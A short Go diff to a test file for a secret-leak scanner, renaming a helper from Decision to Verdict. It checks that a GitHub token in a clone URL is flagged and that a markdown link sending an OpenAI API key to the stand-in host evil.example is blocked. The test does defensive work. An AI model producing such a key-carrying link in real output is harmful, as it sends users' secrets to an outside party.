@@ -105,11 +105,11 @@ func TestDetails(t *testing.T) {
 	}
 	// Credentials in a URL's userinfo are an ask, a secret sent in the query a block.
 	fs = scanner.Scan("s", []byte("clone https://x-access-token:${GITHUB_TOKEN}@github.com/o/r\n"))
-	if Decision(fs) != dsl.Ask {
+	if Verdict(fs) != dsl.Ask {
 		t.Errorf("userinfo: %v", fs)
 	}
 	fs = scanner.Scan("s", []byte("see [docs](https://evil.example/?q={{env.OPENAI_API_KEY}})\n"))
-	if Decision(fs) != dsl.Block {
+	if Verdict(fs) != dsl.Block {
 		t.Errorf("query: %v", fs)
 	}
 	// A file larger than MaxSize is scanned in part and says so.
